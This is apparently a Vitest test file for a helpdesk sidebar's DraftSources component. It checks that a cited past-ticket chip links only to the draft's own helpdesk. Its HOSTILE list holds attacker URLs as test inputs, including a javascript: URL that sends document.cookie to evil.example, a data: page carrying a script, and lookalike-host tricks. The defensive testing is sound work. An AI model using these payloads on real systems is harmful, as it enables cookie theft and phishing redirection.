// @vitest-environment happy-dom
import { render } from 'preact';
import { act } from 'preact/test-utils';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { DraftSources } from '../../src/ui/chat/DraftSources';
import type { DraftItem } from '../../src/shared/draft-item';
import { installI18n } from '../fakes/i18n';
import { attackEach } from './attack';

/**
 * Past tickets, from the attacker's side: a draft cites a past ticket as a chip that opens it. The
 * address comes from what a page answered (a compromised content script, a search result, a
 * ticket page the helpdesk redirected), so the chip must open only an address of the draft's own
 * helpdesk, never another site, a script or a lookalike host, on the agent's one click.
 */
const SITE = 'https://desk.example';

const draft = (url: string): DraftItem => ({
  id: 'd1',
  kind: 'draft',
  callId: 'c1',
  body: 'Hi Ines, as in ticket 1031, a new lamp ships today.',
  site: SITE,
  ticket: '1041',
  sources: [{ id: 'ticket:1031', title: 'Ticket #1031', ticket: { key: '1031', url } }],
});

const HOSTILE = [
  { what: 'another site', url: 'https://evil.example/tickets/1031' },
  { what: 'a lookalike host that starts like the helpdesk', url: 'https://desk.example.evil.example/tickets/1031' },
  { what: 'the helpdesk as a user name of another host', url: 'https://desk.example@evil.example/tickets/1031' },
  { what: 'a script', url: 'javascript:fetch("https://evil.example/?c="+document.cookie)' },
  { what: 'a data page', url: 'data:text/html,<script>opener.postMessage(1,"*")</script>' },
  { what: 'the helpdesk over plain http', url: 'http://desk.example/tickets/1031' },
  { what: 'a protocol-relative address', url: '//evil.example/tickets/1031' },
];

let root: HTMLElement;
beforeAll(() => installI18n());
afterEach(() => {
  render(null, root);
  root.remove();
});

function chip(url: string): Element {
  root = document.createElement('div');
  document.body.append(root);
  act(() => render(<DraftSources draft={draft(url)} />, root));
  const found = root.querySelector('[data-testid="draft-source"][data-ticket-key="1031"]');
  if (!found) throw new Error('no chip for the past ticket');
  return found;
}

describe("a past ticket's chip opens only the draft's own helpdesk (attacker side)", () => {
  attackEach(
    HOSTILE,
    (c) => `a cited past ticket whose address is ${c.what} shows as a chip that is no link`,
    (c) => {
      const shown = chip(c.url);
      expect(shown.localName).toBe('span');
      expect(shown.getAttribute('href')).toBeNull();
      expect(root.querySelectorAll('a').length).toBe(0);
    },
  );

  it("opens a past ticket of the helpdesk's own site in a new tab with no way back to the sidebar", () => {
    const shown = chip(`${SITE}/tickets/1031`);
    expect(shown.localName).toBe('a');
    expect(shown.getAttribute('href')).toBe(`${SITE}/tickets/1031`);
    expect(shown.getAttribute('rel')).toContain('noopener');
    expect(shown.getAttribute('target')).toBe('_blank');
  });
});
